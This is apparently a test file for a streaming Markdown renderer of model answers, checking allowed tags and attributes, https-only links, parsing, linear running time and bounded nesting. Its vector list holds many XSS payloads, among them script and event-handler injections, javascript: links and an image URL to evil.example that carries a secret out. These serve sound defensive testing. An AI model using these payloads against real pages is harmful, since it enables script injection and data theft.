// Text of models as elements: whatever comes, in whatever pieces, only what is allowed comes out, and
// the end is the same as of the whole text at once. Work per token does not grow with the answer.
import assert from "node:assert/strict";
import test from "node:test";
import { of, plain } from "./load.mjs";
import { FakeElement, everyElement, serialized, work } from "./fake_dom.mjs";

const parse = (text) => plain(of("parseMarkdown")(text));
const view = of("makeMarkdownView");
const allowed = {
  ROOT: [], P: ["class"], H3: [], H4: [], H5: [], H6: [], UL: [], OL: ["start"], LI: [], BLOCKQUOTE: [], HR: [], BR: [], STRONG: [], EM: [], DEL: [],
  A: ["href", "rel", "target"], CODE: ["class"], PRE: ["tabindex"], FIGURE: ["class"], FIGCAPTION: [], SPAN: ["class", "tabindex"], DIV: ["class", "tabindex"],
  BUTTON: ["type", "class", "aria-label"], SVG: ["viewBox", "aria-hidden", "class"], PATH: ["d"],
  TABLE: [], THEAD: [], TBODY: [], TR: [], TH: ["class"], TD: ["class"],
  MATH: ["display"], MI: ["mathvariant"], MN: [], MTEXT: [], MFRAC: ["linethickness"], MSQRT: [], MROOT: [], MSUB: [], MSUP: [], MSUBSUP: [], MUNDER: [],
  MUNDEROVER: [], MOVER: ["accent"], MROW: ["class"], MSTYLE: ["displaystyle"], MSPACE: ["width"], MTABLE: ["displaystyle", "class"], MTR: [], MTD: ["class"],
  MO: ["form", "stretchy", "symmetric", "minsize", "maxsize", "movablelimits", "lspace", "rspace"],
};
function checkAllowed(root, why) {
  for (const element of everyElement(root)) {
    assert.ok(element.tagName in allowed, `${why}: <${element.tagName}>`);
    for (const [name, value] of element.attributes) {
      assert.ok(allowed[element.tagName].includes(name), `${why}: ${element.tagName} ${name}`);
      if (name === "href") assert.match(value, /^https:\/\/[^@\s]*$/, why);
      if (name === "rel") assert.equal(value, "noopener noreferrer");
    }
  }
}
function drawn(pieces) {
  const root = new FakeElement("root");
  const one = view(root);
  for (const piece of pieces) {
    one.push(piece);
    checkAllowed(root, JSON.stringify(pieces));
  }
  one.finish();
  checkAllowed(root, JSON.stringify(pieces));
  return serialized(root);
}

const vectors = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//evil.example>",
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](\tjavascript:alert(1))", "[x](data:text/html,<script>1</script>)",
  "[x](vbscript:msgbox)", "[x](file:///etc/passwd)", "[x](http://plain.example)", "[x](//evil.example)", "[x](https://good.example@evil.example)",
  "[x](https://evil.example\" onclick=\"alert(1))", "[x](https://e.example 'title')", "[x](https://)", "[x](https:///evil)", "[x](https://a b.example)",
  "![x](https://evil.example/steal?q=secret)", "![](https://evil.example/p.png)", "![x](javascript:alert(1))", "[![x](https://a.example/i.png)](https://b.example)",
  "<https://evil.example>", "https://user:pass@evil.example/", "https://evil.example/<script>", "https://x.example/\"onmouseover=alert(1)", "[x][1]\n\n[1]: javascript:alert(1)",
  "`<script>`", "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\ncode\n```", "~~~ onload=alert(1)\nx\n~~~", "&lt;script&gt;", "&#x6A;avascript:alert(1)",
  "# <h1 onclick=x>", "| <b>a</b> | [x](javascript:1) |\n|---|---|\n| <img src=x> | ![y](https://e.example/z) |", "- <li>\n  - [x](javascript:1)", "> <blockquote onclick=1>",
  "**<b>**", "_<i>_", "~~<s>~~", "***a** b*", "**a *b** c*", "* * *", "__proto__", "constructor", "{{7*7}}", "${alert(1)}", "\u0000\u0001", "\u202Eevil\u202C",
  "\\<script\\>", "[a](https://ok.example/(x))", "[a](<https://x.example>)", "style=\"position:fixed\"", "<style>*{display:none}</style>", "<form action=https://e.example><button>",
  "<meta http-equiv=refresh content=0>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://e.example>",
  "$<script>alert(1)</script>$", "$$\\text{<img src=x onerror=alert(1)>}$$", "\\(\\href{javascript:alert(1)}{x}\\)", "$\\begin{array}{l\" onclick=alert(1)} x \\end{array}$",
  "\\[\\frac{a}{b}\\]", "$\\url{https://evil.example}$", "$\\htmlClass{x}{y}$", "$\\includegraphics{https://evil.example/p.png}$", "$x$$y$ $ z$", "$$\n- a\n\n# b\n$$", "\\$5 $6",
];
const wrappers = [(x) => x, (x) => `- a\n- ${x}\n- b`, (x) => `> ${x}`, (x) => `| a | b |\n|---|---|\n| ${x} | c |`, (x) => `text\n\n\`\`\`\n${x}\n\`\`\`\n\nmore ${x}`,
  (x) => `[${x}](https://good.example/)`, (x) => `$a$ ${x} $b$`, (x) => `**bold ${x}** and *${x}*\n\n1. ${x}\n\n   still ${x}`];

test("hostile text becomes text, split at every place", () => {
  let n = 0;
  for (const vector of vectors) {
    for (const wrap of wrappers) {
      const text = wrap(vector);
      const root = new FakeElement("root");
      root.append(...of("markdownElements")(text));
      const whole = serialized(root);
      assert.equal(drawn([text]), whole, JSON.stringify(text));
      // Every place of the text itself, every seventh of what stands around it.
      for (let at = 1; at < text.length; at += wrap === wrappers[0] ? 1 : 7) assert.equal(drawn([text.slice(0, at), text.slice(at)]), whole, JSON.stringify([text, at]));
      assert.equal(drawn([...text]), whole, JSON.stringify(text));
      ++n;
    }
  }
  assert.ok(n >= 400, `${n} payloads`);
});

test("the subset", () => {
  assert.deepEqual(parse("# A *b*"), [{ type: "heading", level: 1, children: [{ type: "text", text: "A " }, { type: "em", children: [{ type: "text", text: "b" }] }] }]);
  assert.deepEqual(parse("```cpp\nint a;\n\nint b;\n```\nx"), [{ type: "code", lang: "cpp", text: "int a;\n\nint b;" }, { type: "paragraph", children: [{ type: "text", text: "x" }] }]);
  const [list] = parse("2. a\n   - b\n\n   c\n3. d");
  assert.equal(list.start, 2);
  assert.deepEqual(list.items.map((item) => item.map((block) => block.type)), [["paragraph", "list", "paragraph"], ["paragraph"]]);
  const [table] = parse("| a | b |\n|:-:|--:|\n| `x\\|y` | 2 |\n| 3 |");
  assert.deepEqual(table.align, ["center", "right"]);
  assert.deepEqual(table.rows[0][0], [{ type: "code", text: "x|y" }]);
  assert.deepEqual(table.rows[1][1], []);
  assert.deepEqual(parse("a_b_c 2*3*4 ** x **")[0].children.map((node) => node.type), ["text", "em", "text"]);
  assert.deepEqual(parse("**a *b* c**")[0].children[0].children.map((node) => node.type), ["text", "em", "text"]);
  assert.equal(parse("see https://a.example/x_(y).")[0].children[1].href, "https://a.example/x_(y");
  assert.deepEqual(parse("`` a`b ``")[0].children, [{ type: "code", text: "a`b" }]);
});

test("time is linear for what is built to be slow", () => {
  const slow = ["*", "_", "`", "[", "](", "**a", "![", "> ", "- ", "~~~", "|", "``` ` ", "[a](https://", "\\", "<", "1. ", "__a*", "$", "$a ", "$$", "\\(", "\\[", "$$\n", "\\begin{align}", "\\\\)", "$x$ "];
  for (const piece of slow) {
    const time = (n) => {
      const text = piece.repeat(n);
      // Of the processor: what else runs here does not count.
      const before = process.cpuUsage();
      parse(text);
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1000;
    };
    time(2000);
    const long = time(40000);
    assert.ok(long < 8000, `${JSON.stringify(piece)}: 40000 of it took ${long.toFixed(0)} ms`);
  }
});

test("nesting is bounded", () => {
  const depth = (blocks) => Math.max(0, ...blocks.map((block) => 1 + depth(block.children && block.type === "quote" ? block.children : (block.items || []).flat())));
  assert.ok(depth(parse("> ".repeat(500) + "x")) <= 10);
  assert.ok(depth(parse("- ".repeat(500) + "x")) <= 10);
});

// Characters and nodes put into elements, for tokens behind half a megabyte and behind ten.
test("a token of a long answer costs what a token of a short one does", () => {
  for (const [name, piece] of Object.entries({ paragraphs: "some words of an answer. ".repeat(8) + "\n\n", line: "one line without end ", code: "let x = 1;\n", list: "- item with words\n" })) {
    const root = new FakeElement("root");
    const one = view(root);
    if (name === "code") one.push("```js\n");
    const filler = piece.repeat(Math.ceil(50000 / piece.length));
    let length = 0;
    const fill = (end) => { for (; length < end; length += filler.length) { one.push(filler); root.replaceChildren(...root.childNodes.slice(-4)); } };
    // Over two of the longest open blocks, so that where one ends does not count.
    const cost = () => {
      const before = work.characters + 20 * work.nodes;
      for (let n = 0; n < 2 * 65536; n += piece.length) for (const token of piece.match(/.{1,4}|\n/gs)) one.push(token);
      return work.characters + 20 * work.nodes - before;
    };
    fill(5e5);
    const early = cost();
    fill(1e7);
    const ratio = cost() / early;
    assert.ok(ratio <= 1.2, `${name}: a token behind 10 MB costs ${ratio.toFixed(2)} times as much`);
  }
});
